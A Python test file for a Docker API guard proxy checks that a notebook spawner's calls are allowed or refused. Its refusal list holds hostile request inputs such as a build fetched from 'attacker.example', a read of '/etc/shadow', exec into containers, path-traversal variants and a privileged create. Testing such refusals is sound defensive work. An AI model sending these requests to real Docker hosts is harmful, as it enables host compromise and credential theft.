"""What the spawner's Docker client asks is carried out, and nothing of the host is told."""

from __future__ import annotations

import json
from pathlib import Path

import docker
import pytest
from docker.errors import APIError, NotFound
from docker.types import Mount
from dropsonde_guard import calls
from dropsonde_guard.actions import Actions
from dropsonde_guard.policy import load

from tests.unit.guard.conftest import ACCOUNT, FOREIGN, HOME, IMAGE, NOTEBOOK, SCIENCE, Running, environ
from tests.unit.guard.requests import CONTAINER, CREATE, HOST_CONFIG, VOLUME, create, http


def status(answer: bytes) -> int:
    return int(answer.split(b" ", 2)[1])


def test_the_clients_own_calls_are_carried_out(running: Running) -> None:
    client = running.client
    assert client.inspect_image(IMAGE)["Config"]["Cmd"] == ["start-singleuser"]
    assert client.inspect_volume(HOME)["Labels"]["dropsonde.account"] == ACCOUNT
    assert client.inspect_volume(SCIENCE)["Name"] == SCIENCE
    assert client.inspect_container(NOTEBOOK)["State"]["Running"]
    assert client.logs(NOTEBOOK, stdout=True, stderr=True, tail=20) == b"hello"
    client.start(NOTEBOOK)
    client.stop(NOTEBOOK, timeout=0)
    client.stop(NOTEBOOK, timeout=10)
    client.remove_container(NOTEBOOK, v=True, force=True)
    assert [(item.method, item.path.split("/", 2)[2], item.query) for item in running.engine.changes] == [
        ("POST", f"containers/{NOTEBOOK}/start", {}),
        ("POST", f"containers/{NOTEBOOK}/stop", {"t": ["0"]}),
        ("POST", f"containers/{NOTEBOOK}/stop", {"t": ["10"]}),
        ("DELETE", f"containers/{NOTEBOOK}", {"v": ["True"], "link": ["False"], "force": ["True"]}),
    ]


def test_a_container_is_made_of_the_settings(running: Running) -> None:
    assert status(running.send(create())) == 201
    (made,) = running.engine.changes
    assert made.query == {"name": ["svc-alice"]}
    assert made.body == CONTAINER
    assert made.body["HostConfig"] == HOST_CONFIG


def test_the_answer_to_a_create_has_its_id_only(running: Running) -> None:
    assert running.send(create()).endswith(b'{"Id": "' + NOTEBOOK.encode() + b'", "Warnings": []}')


def test_a_home_is_made_with_its_labels(running: Running) -> None:
    del running.engine.volumes[HOME]
    running.client.create_volume(HOME, "local", {}, VOLUME["Labels"])
    (made,) = running.engine.changes
    assert made.body == VOLUME
    assert made.path == "/v1.45/volumes/create"


def test_a_home_has_its_limit_where_the_disk_can_hold_it(running: Running, versions_file: Path) -> None:
    del running.engine.volumes[HOME]
    actions = Actions(load(environ(versions_file, HOME_SIZE="20G")))
    client = docker.APIClient(f"unix://{running.engine.path}", version="1.45")
    answer = actions.carry_out(client, calls.CreateVolume(json.dumps(VOLUME).encode()))
    assert answer.status == 201
    assert [item.body["DriverOpts"] for item in running.engine.changes] == [{"size": str(20 << 30)}, {}]


def test_usage_is_of_our_homes_only_and_asked_once(running: Running) -> None:
    for _ in range(3):
        answer = running.send(http("GET", "/dropsonde/usage"))
        assert answer.endswith(b'{"svc-home-alice-0a1b2c3d": 7, "svc-home-bob-11111111": 7}')
    assert len(running.engine.seen) <= 1


@pytest.mark.parametrize("path", [f"/v1.45/containers/{NOTEBOOK}/json", f"/v1.45/volumes/{HOME}", "/version"])
def test_nothing_of_the_host_is_told(running: Running, path: str) -> None:
    answer = running.send(http("GET", path))
    assert status(answer) == 200
    for secret in (b"/secret", b"/var/lib", b"Gateway", b"Kernel", b"HostConfig", b"Mountpoint"):
        assert secret not in answer


@pytest.mark.parametrize("key", [FOREIGN, "c" * 64, "name-b", "name-c", "nobody"])
def test_containers_of_others_are_not_there(running: Running, key: str) -> None:
    client = running.client
    for call in (
        lambda: client.inspect_container(key),
        lambda: client.start(key),
        lambda: client.stop(key, timeout=0),
        lambda: client.remove_container(key, v=True, force=True),
        lambda: client.logs(key, tail=20),
    ):
        with pytest.raises(NotFound):
            call()
    assert running.engine.changes == []


@pytest.mark.parametrize("name", ["svc-data", "nothing", "svc-home-nobody-00000000"])
def test_volumes_of_others_are_not_there(running: Running, name: str) -> None:
    with pytest.raises(NotFound):
        running.client.inspect_volume(name)


def test_images_of_others_are_not_there(running: Running) -> None:
    with pytest.raises(docker.errors.ImageNotFound):
        running.client.inspect_image("debian:trixie-slim")
    assert not [item for item in running.engine.seen if "images" in item.path]


@pytest.mark.parametrize(
    ("method", "target"),
    [
        ("GET", "/v1.45/containers/json"),
        ("GET", "/v1.45/info"),
        ("GET", "/v1.45/events"),
        ("GET", "/v1.45/secrets"),
        ("POST", f"/v1.45/containers/{NOTEBOOK}/exec"),
        ("POST", "/v1.45/exec/1/start"),
        ("POST", f"/v1.45/containers/{NOTEBOOK}/attach?stream=1"),
        ("GET", f"/v1.45/containers/{NOTEBOOK}/attach/ws"),
        ("PUT", f"/v1.45/containers/{NOTEBOOK}/archive?path=/"),
        ("GET", f"/v1.45/containers/{NOTEBOOK}/archive?path=/etc/shadow"),
        ("GET", f"/v1.45/containers/{NOTEBOOK}/export"),
        ("POST", f"/v1.45/containers/{NOTEBOOK}/update"),
        ("POST", f"/v1.45/containers/{NOTEBOOK}/rename?name=x"),
        ("POST", f"/v1.45/containers/{NOTEBOOK}/restart"),
        ("POST", f"/v1.45/containers/{NOTEBOOK}/kill"),
        ("POST", "/v1.45/build"),
        ("POST", "/build?remote=http://attacker.example"),
        ("POST", "/v1.45/images/create?fromImage=x"),
        ("POST", "/v1.45/images/load"),
        ("POST", "/v1.45/commit"),
        ("POST", "/v1.45/networks/create"),
        ("POST", "/v1.45/networks/bridge/connect"),
        ("POST", "/v1.45/plugins/pull?remote=x"),
        ("POST", "/v1.45/swarm/init"),
        ("POST", "/v1.45/session"),
        ("POST", "/grpc"),
        ("DELETE", f"/v1.45/volumes/{HOME}"),
        ("DELETE", f"/v1.45/images/{IMAGE}"),
        ("get", f"/v1.45/containers/{NOTEBOOK}/json"),
        ("HEAD", f"/v1.45/containers/{NOTEBOOK}/json"),
        ("POST", f"/containers/{NOTEBOOK}/start"),
        ("POST", f"/v9.99/containers/{NOTEBOOK}/start"),
        ("POST", f"/v1.45/../containers/{NOTEBOOK}/start"),
        ("POST", f"/v1.45/../v1.45/containers/{NOTEBOOK}/start"),
        ("POST", f"/v1.45//containers/{NOTEBOOK}/start"),
        ("POST", f"//v1.45/containers/{NOTEBOOK}/start"),
        ("POST", f"/v1.45/containers/{NOTEBOOK}/start/"),
        ("POST", f"/v1.45/containers/{NOTEBOOK}/../{FOREIGN}/start"),
        ("POST", f"/v1.45/containers/%61{NOTEBOOK[1:]}/start"),
        ("POST", f"/v1.45/containers/{NOTEBOOK}%2fstart"),
        ("POST", f"/v1.45/Containers/{NOTEBOOK}/start"),
        ("POST", f"/v1.45/containers/{NOTEBOOK}/start?detachKeys=x"),
        ("POST", f"/v1.45/containers/{NOTEBOOK}/start?checkpoint=x&checkpoint-dir=/etc"),
        ("POST", f"/v1.45/containers/{NOTEBOOK}/start#x"),
        ("POST", f"http://localhost/v1.45/containers/{NOTEBOOK}/start"),
        ("POST", f"/v1.45/containers/{NOTEBOOK}/stop?t=-1"),
        ("POST", f"/v1.45/containers/{NOTEBOOK}/stop?t=1&t=2"),
        ("POST", f"/v1.45/containers/{NOTEBOOK}/stop?signal=SIGKILL"),
        ("DELETE", f"/v1.45/containers/{NOTEBOOK}?link=1"),
        ("DELETE", f"/v1.45/containers/{NOTEBOOK}?"),
        ("GET", f"/v1.45/containers/{NOTEBOOK}/logs?follow=1&tail=20&stdout=1"),
        ("GET", f"/v1.45/containers/{NOTEBOOK}/logs?follow=0&tail=all&stdout=1"),
    ],
)
def test_every_other_call_is_refused(running: Running, method: str, target: str) -> None:
    before = len(running.engine.seen)
    answer = running.send(http(method, target))
    assert status(answer) in {400, 403}
    assert method == "HEAD" or b'{"message": "' in answer
    assert len(running.engine.seen) == before


@pytest.mark.parametrize("target", [CREATE + "&platform=x", "/v1.45/containers/create", CREATE.replace("svc-", "SVC-")])
def test_a_create_says_its_name_and_nothing_else(running: Running, target: str) -> None:
    assert status(running.send(create(target=target))) == 403
    assert running.engine.changes == []


def test_a_client_that_asks_for_more_is_told_the_field(running: Running) -> None:
    client = running.client
    host = client.create_host_config(privileged=True, mounts=[Mount("/home/jovyan", HOME, type="volume")])
    with pytest.raises(APIError, match="The hub asks for what the settings do not give"):
        client.create_container(
            IMAGE,
            ["start-singleuser"],
            name="svc-alice",
            labels=CONTAINER["Labels"],
            environment={"DROPSONDE_VERSION": "1"},
            host_config=host,
        )
    assert running.engine.changes == []
